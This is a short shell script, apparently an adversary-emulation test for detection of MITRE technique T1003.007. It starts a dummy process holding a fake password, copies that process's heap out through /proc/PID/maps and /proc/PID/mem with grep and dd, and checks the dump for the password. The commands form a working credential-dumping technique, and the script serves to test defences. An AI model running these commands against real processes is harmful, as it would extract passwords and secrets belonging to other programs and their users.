# technique: T1003.007
# tactic: credential-access
# name: Heap of a running process dumped through /proc/PID/maps and /proc/PID/mem
# expect: detected
. "$EMULATION_LIB"
need dd grep
# The target: a process this script started that holds a password in its heap (a login helper,
# a database client, a browser … in real life).
sh -c 'secret=$(printf "%s%s" "PASSWORD=" "Tr0ub4dor-3"); while :; do sleep 1; done; echo $secret' &
victim=$!
trap 'kill "$victim" 2>/dev/null || true' EXIT
sleep 0.3

# The Atomic Red Team sh variant: find the readable heap mapping, then copy it out of /proc/PID/mem.
heap=$(grep -E '^[0-9a-f-]* r' /proc/$victim/maps | grep heap | cut -d' ' -f1)
start=$((0x${heap%-*}))
stop=$((0x${heap#*-}))
dd if=/proc/$victim/mem of=heap.dump bs=4096 iflag=skip_bytes,count_bytes skip=$start count=$((stop - start)) 2>/dev/null

kill "$victim" 2>/dev/null || true
wait "$victim" 2>/dev/null || true
grep -a -q 'PASSWORD=Tr0ub4dor-3' heap.dump
